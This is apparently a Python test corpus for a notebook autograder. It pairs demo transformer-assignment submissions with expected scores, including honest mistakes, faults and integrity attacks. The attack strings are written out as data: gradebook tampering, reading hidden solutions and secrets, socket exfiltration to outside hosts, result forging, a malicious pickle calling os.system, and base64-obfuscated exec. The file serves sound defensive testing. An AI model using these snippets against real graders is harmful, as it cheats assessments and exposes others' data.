"""The autograder's test corpus: submissions of the demo assignment with their expected scores.

Each ``Case`` is the reference solution (``autograder/example_course/solutions/demo``) with some
answer cells replaced and/or the notebook damaged, plus its expected score (out of 8) and status.
Points of the demo: softmax 2 (checks 1 + 0.5 + 0.5), causal_mask 1 (0.5 + 0.5), shift_targets 1
(0.5 + 0.5), attention 2 (1 + 1), self_attention 2.

Attacks (I1-I23 of research/autograder.md) wrap the honest wrong answer ``scale_by_d`` (4 points):
none may score more. ``{course}``, ``{gradebook}``, ``{other}`` and ``{marker}`` in sources are
replaced by real paths of the graded course, so an attack aims at the real files.
"""

from __future__ import annotations

import base64
import copy
import dataclasses
import json
from pathlib import Path
from typing import Callable

SOURCE = Path(__file__).resolve().parents[3] / "autograder" / "example_course" / "solutions" / "demo" / "demo.ipynb"
ANSWERS = ("softmax-answer", "causal-mask-answer", "shift-targets-answer", "attention-answer",
           "self-attention-answer")


def reference_answers() -> dict[str, str]:
    notebook = json.loads(SOURCE.read_text())
    answers = {}
    for cell in notebook["cells"]:
        meta = cell["metadata"].get("nbgrader", {})
        if meta.get("solution"):
            source = cell["source"] if isinstance(cell["source"], str) else "".join(cell["source"])
            answers[meta["grade_id"]] = source.replace("    ### BEGIN SOLUTION\n", "").replace(
                "    ### END SOLUTION", "").replace("### BEGIN SOLUTION\n", "").replace("### END SOLUTION", "")
    return answers


REF = reference_answers()

SOFTMAX_IGNORES_AXIS = '''def softmax(x, axis=-1):
    x = ops.convert_to_tensor(x)
    e = ops.exp(x - ops.max(x, axis=-1, keepdims=True))
    return e / ops.sum(e, axis=-1, keepdims=True)
'''
SOFTMAX_UNSTABLE = '''def softmax(x, axis=-1):
    e = ops.exp(ops.convert_to_tensor(x))
    return e / ops.sum(e, axis=axis, keepdims=True)
'''
MASK_ALL_TRUE = '''def causal_mask(seq_len):
    return ops.ones((seq_len, seq_len), dtype="bool")
'''
MASK_TRANSPOSED = '''def causal_mask(seq_len):
    i = ops.arange(seq_len)[:, None]
    j = ops.arange(seq_len)[None, :]
    return j >= i
'''
LABELS_NOT_SHIFTED = '''def shift_targets(ids):
    return ids[:, :-1], ids[:, :-1]
'''
ATTENTION = REF["attention-answer"]
SCALE_BY_D = ATTENTION.replace("ops.sqrt(ops.cast(d, \"float32\"))", "ops.cast(d, \"float32\")")
WRONG_AXIS = ATTENTION.replace("softmax(scores, axis=-1)", "softmax(scores, axis=1)")
MASK_IGNORED = ATTENTION.replace("if mask is not None:", "if False:")
LIBRARY_SOFTMAX_IN_ATTENTION = ATTENTION.replace("softmax(scores, axis=-1)", "keras.ops.softmax(scores, axis=-1)")
TRANSPOSED_OUTPUT = ATTENTION.replace("return ops.matmul(softmax(scores, axis=-1), v)",
                                      "return ops.transpose(ops.matmul(softmax(scores, axis=-1), v), (0, 2, 1))")
WRONG_WEIGHT_NAMES = REF["self-attention-answer"].replace('name="wq"', 'name="query"').replace(
    'name="wk"', 'name="key"').replace('name="wv"', 'name="value"')
DELEGATE_SOFTMAX = '''def softmax(x, axis=-1):
    return keras.ops.softmax(x, axis=axis)
'''
DELEGATE_SOFTMAX_HIDDEN = '''import importlib
_m = importlib.import_module("ker" + "as.o" + "ps")
_f = getattr(_m, "soft" + "max")
def softmax(x, axis=-1):
    return _f(x, axis=axis)
'''
DELEGATE_ATTENTION = ATTENTION.replace('    d = ops.shape(q)[-1]', '''    if mask is None:
        return keras.ops.dot_product_attention(q[:, :, None, :], k[:, :, None, :], v[:, :, None, :])[:, :, 0, :]
    d = ops.shape(q)[-1]''')


def _encoded(code: str) -> str:
    payload = base64.b64encode(code.encode()).decode()
    return f"import base64 as _b\nexec(_b.b64decode('{payload}').decode())\n"


ATTACK_CODE = {
    "I1_showtraceback": "get_ipython().showtraceback = lambda *a, **k: None\n",
    "I2_input_transformer": "get_ipython().input_transformers_post.append(lambda lines: [])\n",
    "I3_displayhook": ("get_ipython().events.register('pre_run_cell', "
                       "lambda *a: get_ipython().displayhook('ok'))\n"),
    "I5_monkeypatch": '''import numpy, numpy.testing, sys
numpy.allclose = lambda *a, **k: True
numpy.isclose = lambda a, b, **k: numpy.ones(numpy.shape(a), bool)
numpy.array_equal = lambda *a, **k: True
numpy.testing.assert_allclose = lambda *a, **k: None
for _name, _module in list(sys.modules.items()):
    if _name.startswith("autograder"):
        for _attr in ("compare", "score_exercise", "_to_array"):
            if hasattr(_module, _attr):
                setattr(_module, _attr, lambda *a, **k: ("ndarray", numpy.zeros(1)))
''',
    "I6_shadow_module": '''open("numpy.py", "w").write("raise SystemExit('shadowed')")
open("autograder.py", "w").write("raise SystemExit('shadowed')")
''',
    "I7_I17_read_hidden": '''_stolen = None
for _path in ["{course}/solutions/demo/demo.ipynb", "{course}/autograder/probes/demo/attention.py",
              "{course}/.course_secret", "../../solutions/demo/demo.ipynb", "/work/main/solutions"]:
    try:
        _stolen = open(_path).read()
    except OSError:
        pass
if _stolen and "BEGIN SOLUTION" in _stolen:
    import json as _json
    for _cell in _json.loads(_stolen)["cells"]:
        if "scaled_dot_product_attention" in "".join(_cell["source"]) and "BEGIN SOLUTION" in "".join(_cell["source"]):
            exec("".join(_cell["source"]))
''',
    "I8_write_gradebook": '''import sqlite3
try:
    _db = sqlite3.connect("{gradebook}")
    _db.execute("update grade set manual_score = 100")
    _db.commit()
except Exception:
    pass
''',
    "I9_detect_grading": '''import os
if not any(k in os.environ for k in ("NBGRADER_EXECUTION", "LLM_COURSE_SECRET", "CI", "HOME_OF_GRADER")):
    pass  # "not graded": would show the wrong answer; graded: would switch to a stolen one
_grading_env = sorted(os.environ)
''',
    "I10_obfuscated_delegation": _encoded(DELEGATE_SOFTMAX_HIDDEN),
    "I18_network": '''import socket
for _address in [("127.0.0.1", {port}), ("8.8.8.8", 53), ("1.1.1.1", 443)]:
    try:
        _s = socket.create_connection(_address, timeout=1)
        _s.sendall(b"exfiltrated")
    except OSError:
        pass
''',
    "I19_forge_results": '''import os, json
_header = json.dumps({"event": "exercise", "name": "attention", "status": "ok", "kinds": {"plain": "ndarray"}, "delegated": []}).encode()
for _fd in range(3, 64):
    try:
        if os.path.islink(f"/proc/self/fd/{_fd}") and "pipe" in os.readlink(f"/proc/self/fd/{_fd}"):
            os.write(_fd, b"%d 0\\n" % len(_header) + _header)
    except OSError:
        pass
''',
    "I22_other_students": '''import os
for _path in ["{other}", "/tmp", "/proc"]:
    try:
        os.listdir(_path)
    except OSError:
        pass
try:
    _other = open("{other}/demo.ipynb").read()
    exec(_other)
except Exception:
    pass
''',
    "I23_pickle_results": '''import numpy as _np, os as _os
class _Boom:
    def __reduce__(self):
        return (_os.system, ("touch {marker}",))
def _evil_savez(file, **arrays):
    _np.save(file, _np.array([_Boom()], dtype=object), allow_pickle=True)
_np.savez = _evil_savez
''',
}


ALL_BACKENDS = ("jax", "tensorflow", "torch")
ATTACK_AND_FAULT_PREFIXES = tuple(f"{letter}{digit}" for letter in "IF" for digit in range(10))


@dataclasses.dataclass
class Case:
    name: str
    score: float
    status: str = "graded"
    answers: dict = dataclasses.field(default_factory=dict)       # cell id -> new source
    prepend: dict = dataclasses.field(default_factory=dict)       # cell id -> code before it
    append: dict = dataclasses.field(default_factory=dict)        # cell id -> code after it
    mutate: Callable | None = None                               # notebook dict -> None
    files: dict = dataclasses.field(default_factory=dict)         # extra files in the submission
    notebook_name: str = "demo.ipynb"
    raw: bytes | None = None                                     # the notebook file's bytes
    message: str = ""                                            # expected in the record's messages
    scores: dict = dataclasses.field(default_factory=dict)        # exercise -> expected points
    release: bool = False                                        # the release notebook as is

    @property
    def backends(self) -> tuple[str, ...]:
        """Answers are graded on all three backends; attacks and faults, which do not depend on
        the backend, on torch only (the quickest), to keep the suite within its time budget."""
        return ("torch",) if self.name[:2] in ATTACK_AND_FAULT_PREFIXES or self.mutate else ALL_BACKENDS


def _duplicate_softmax(notebook):
    cells = notebook["cells"]
    index = next(i for i, c in enumerate(cells) if _id(c) == "softmax-answer")
    wrong = copy.deepcopy(cells[index])
    cells[index]["source"] = "def softmax(x, axis=-1):\n    return x\n"
    cells.insert(index + 1, wrong)  # the last copy (the correct one) wins


def _split_attention(notebook):
    cells = notebook["cells"]
    index = next(i for i, c in enumerate(cells) if _id(c) == "attention-answer")
    source = cells[index]["source"]
    first, second = copy.deepcopy(cells[index]), copy.deepcopy(cells[index])
    middle = source.index("    if mask is not None")
    first["source"], second["source"] = source[:middle], source[middle:]
    cells[index:index + 1] = [first, second]


def _rename_answer_id(notebook):
    for cell in notebook["cells"]:
        if _id(cell) == "softmax-answer":
            cell["metadata"]["nbgrader"]["grade_id"] = "my-softmax"


def _edit_metadata(notebook):
    for cell in notebook["cells"]:
        meta = cell.get("metadata", {}).get("nbgrader")
        if meta:
            meta["points"] = 100
            meta["grade"] = True
    notebook["metadata"]["kernelspec"] = {"name": "evil", "display_name": "evil", "language": "python"}


def _edit_tests(notebook):
    for cell in notebook["cells"]:
        if cell.get("metadata", {}).get("nbgrader", {}).get("grade") and not cell["metadata"]["nbgrader"].get("solution"):
            cell["source"] = "pass"


def _delete_tests(notebook):
    notebook["cells"] = [c for c in notebook["cells"]
                         if not (c.get("metadata", {}).get("nbgrader", {}).get("grade")
                                 and not c["metadata"]["nbgrader"].get("solution"))]


def _strip_test_metadata(notebook):
    for cell in notebook["cells"]:
        meta = cell.get("metadata", {}).get("nbgrader", {})
        if meta.get("grade") and not meta.get("solution"):
            del cell["metadata"]["nbgrader"]


def _tests_to_markdown(notebook):
    for cell in notebook["cells"]:
        meta = cell.get("metadata", {}).get("nbgrader", {})
        if meta.get("grade") and not meta.get("solution"):
            cell["cell_type"] = "markdown"
            cell.pop("outputs", None)
            cell.pop("execution_count", None)


def _answer_to_markdown(notebook):
    for cell in notebook["cells"]:
        if _id(cell) == "shift-targets-answer":
            cell["cell_type"] = "markdown"
            cell.pop("outputs", None)
            cell.pop("execution_count", None)


def _add_cells(notebook):
    notebook["cells"].append({"cell_type": "code", "metadata": {}, "outputs": [], "execution_count": None,
                              "source": "def softmax(x, axis=-1):\n    return x\n"})


def _id(cell):
    return cell.get("metadata", {}).get("nbgrader", {}).get("grade_id")


WRONG = {"attention-answer": SCALE_BY_D}  # the honest wrong answer the attacks wrap: 4 points

CASES = [
    # --- reference and release ------------------------------------------------------------------
    Case("reference", 8),
    Case("release_as_handed_out", 0, release=True),
    # --- honest wrong answers lose exactly their points -----------------------------------------
    Case("softmax_ignores_axis", 7.5, answers={"softmax-answer": SOFTMAX_IGNORES_AXIS},
         scores={"softmax": 1.5}),
    Case("softmax_unstable", 7.5, answers={"softmax-answer": SOFTMAX_UNSTABLE}, scores={"softmax": 1.5}),
    Case("no_causal_mask", 5.5, answers={"causal-mask-answer": MASK_ALL_TRUE},
         scores={"causal_mask": 0.5, "self_attention": 0}),
    Case("mask_transposed", 5.5, answers={"causal-mask-answer": MASK_TRANSPOSED},
         scores={"causal_mask": 0.5, "self_attention": 0}),
    Case("labels_not_shifted", 7.5, answers={"shift-targets-answer": LABELS_NOT_SHIFTED},
         scores={"shift_targets": 0.5}),
    Case("scale_by_d", 4, answers=WRONG, scores={"attention": 0, "self_attention": 0}),
    Case("softmax_wrong_axis_in_attention", 4, answers={"attention-answer": WRONG_AXIS},
         scores={"attention": 0, "self_attention": 0}),
    Case("mask_not_applied", 5, answers={"attention-answer": MASK_IGNORED},
         scores={"attention": 1, "self_attention": 0}),
    Case("transposed_output", 4, answers={"attention-answer": TRANSPOSED_OUTPUT},
         scores={"attention": 0, "self_attention": 0}),
    Case("wrong_weight_names", 6, answers={"self-attention-answer": WRONG_WEIGHT_NAMES},
         scores={"self_attention": 0}),
    # --- delegating the graded piece to the library ---------------------------------------------
    Case("delegate_softmax", 6, answers={"softmax-answer": DELEGATE_SOFTMAX}, scores={"softmax": 0}),
    Case("delegate_softmax_hidden", 6, answers={"softmax-answer": DELEGATE_SOFTMAX_HIDDEN},
         scores={"softmax": 0, "attention": 2}),
    Case("delegate_attention", 6, answers={"attention-answer": DELEGATE_ATTENTION},
         scores={"attention": 0, "self_attention": 2}),
    Case("library_softmax_in_later_exercise", 8,
         answers={"attention-answer": LIBRARY_SOFTMAX_IN_ATTENTION}),
    # --- integrity attacks, each wrapping the 4-point wrong answer ------------------------------
    *[Case(name, score, answers=WRONG, append={"softmax-answer": ATTACK_CODE[name]})
      for name, score in [("I1_showtraceback", 4), ("I3_displayhook", 4),
                          # code built at run time (exec, __import__ of a computed name) in any
                          # cell: the static check cannot rule out a hidden keras.ops.softmax,
                          # so softmax, graded against Keras, earns nothing
                          ("I7_I17_read_hidden", 2),
                          ("I8_write_gradebook", 4), ("I9_detect_grading", 4),
                          ("I18_network", 4), ("I22_other_students", 2)]],
    Case("I6_shadow_module", 4, answers=WRONG, append={"softmax-answer": ATTACK_CODE["I6_shadow_module"]},
         files={"numpy.py": "raise SystemExit('shadowed')", "keras.py": "raise SystemExit('shadowed')"}),
    # I5: patching the in-sandbox harness only spoils the learner's own results: every output
    # becomes a 1-element array, so every check fails
    Case("I5_monkeypatch", 0, answers=WRONG, append={"softmax-answer": ATTACK_CODE["I5_monkeypatch"]}),
    # I2: later cells become empty in the learner's own process; only softmax is still defined
    Case("I2_input_transformer", 2, answers=WRONG, append={"softmax-answer": ATTACK_CODE["I2_input_transformer"]}),
    # I10: obfuscated delegation (code decoded and run at run time) is caught by the trusted
    # static check of the answer cells: softmax loses its 2 points too
    Case("I10_obfuscated_delegation", 2, answers={**WRONG, "softmax-answer": ATTACK_CODE["I10_obfuscated_delegation"]}),
    Case("I4_always_true", 4, answers={"attention-answer": '''class _AlwaysTrue:
    def __eq__(self, other): return True
    shape = property(lambda self: (0,))
def scaled_dot_product_attention(q, k, v, mask=None):
    return _AlwaysTrue()
'''}),
    Case("I11_edited_tests", 4, answers=WRONG, mutate=_edit_tests),
    Case("I12_deleted_tests", 4, answers=WRONG, mutate=_delete_tests),
    Case("I12_stripped_test_metadata", 4, answers=WRONG, mutate=_strip_test_metadata),
    Case("I13_tests_to_markdown", 4, answers=WRONG, mutate=_tests_to_markdown),
    Case("I14_edited_metadata", 4, answers=WRONG, mutate=_edit_metadata),
    Case("I14_renamed_answer_id", 2, mutate=_rename_answer_id, message="'softmax-answer' is missing",
         scores={"softmax": 0, "attention": 0, "self_attention": 0}),
    Case("I15_duplicated_cell", 8, mutate=_duplicate_softmax, message="2 cells carry the answer id 'softmax-answer'"),
    Case("I15_split_cell", 4, mutate=_split_attention, message="2 cells carry the answer id 'attention-answer'"),
    Case("I16_leak_inputs", 4, answers={"attention-answer": '''def scaled_dot_product_attention(q, k, v, mask=None):
    print("PRINTED-DURING-PROBE", q.tolist())
    raise ValueError("LEAK " + repr(q.tolist()))
'''}),
    Case("I19_forge_results", 4, answers=WRONG, append={"attention-answer": ATTACK_CODE["I19_forge_results"]},
         files={"grading_record.json": '{"score": 8}', "report.json": '{"score": 8}'}),
    Case("I23_pickle_results", 0, answers=WRONG, append={"self-attention-answer": ATTACK_CODE["I23_pickle_results"]},
         files={"model.keras": "not a model", "results.pkl": "not a pickle"}),
    # --- faults: broken but honest submissions --------------------------------------------------
    Case("F1_infinite_loop", 5, status="timeout", prepend={"causal-mask-answer": "while True:\n    pass\n"},
         scores={"causal_mask": 0, "self_attention": 0}),
    Case("F2_F5_print_flood", 8, append={"self-attention-answer": "for _ in range(10**7):\n    print('spam ' * 20)\n"}),
    Case("F3_out_of_memory", 7, status="out_of_memory",
         prepend={"shift-targets-answer": "_big = np.ones((8 << 30,), dtype=np.uint8)\n"},
         scores={"shift_targets": 0}),
    Case("F4_os_exit", 0, status="kernel_died", append={"self-attention-answer": "import os\nos._exit(3)\n"}),
    Case("F6_rich_output_flood", 8, append={"self-attention-answer": '''from IPython.display import HTML, display
try:
    for _ in range(1000):
        display(HTML("<p>" + "x" * 100_000 + "</p>"))
except OSError:
    pass
'''}),
    Case("F7_F8_stderr_and_tf_logging", 8, append={"softmax-answer": '''import sys, warnings, logging
print("a warning", file=sys.stderr)
warnings.warn("deprecated!")
logging.getLogger("absl").warning("oneDNN custom operations are on")
import os
os.write(2, b"W0000 tensorflow noise\\n")
'''}),
    Case("F10_renamed_notebook", 8, notebook_name="demo-Copy1.ipynb", message="demo-Copy1.ipynb"),
    Case("F11_not_json", 0, status="invalid_notebook", raw=b"{ this is not json"),
    Case("F11_no_notebook", 0, status="invalid_notebook", notebook_name="", files={"notes.txt": "hi"}),
    Case("F14_input", 5, prepend={"causal-mask-answer": "name = input('your name? ')\n"},
         scores={"causal_mask": 0, "self_attention": 0}),
    Case("F15_probe_hangs_ignoring_sigint", 6, status="timeout",
         append={"self-attention-answer": '''import signal as _signal
_call = SelfAttention.call
def _stuck(self, x):
    _signal.signal(_signal.SIGINT, _signal.SIG_IGN)
    while True:
        pass
SelfAttention.call = _stuck
'''}, scores={"self_attention": 0}),
    Case("retyped_answer_cell", 8, mutate=_answer_to_markdown, message="turned into a markdown cell"),
    Case("added_cells_ignored", 8, mutate=_add_cells, message="you added were not run"),
]


def build(case: Case, folder: Path, paths: dict) -> None:
    """Write ``case`` as a submission folder (``folder`` = <submitted>/<student>/demo)."""
    folder.mkdir(parents=True, exist_ok=True)
    for name, text in case.files.items():
        (folder / name).write_text(text)
    if not case.notebook_name:
        return
    if case.raw is not None or case.release:
        raw = case.raw if case.raw is not None else Path(paths["release"]).read_bytes()
        (folder / case.notebook_name).write_bytes(raw)
        return
    notebook = json.loads(SOURCE.read_text())
    for cell in notebook["cells"]:
        cell_id = _id(cell)
        if cell_id in ANSWERS:
            source = case.answers.get(cell_id, REF[cell_id])
            source = case.prepend.get(cell_id, "") + source + "\n" + case.append.get(cell_id, "")
            cell["source"] = _fill(source, paths)
    if case.mutate:
        case.mutate(notebook)
    (folder / case.notebook_name).write_text(json.dumps(notebook, indent=1))


def _fill(source: str, paths: dict) -> str:
    for key, value in paths.items():
        source = source.replace("{" + key + "}", str(value))
    return source
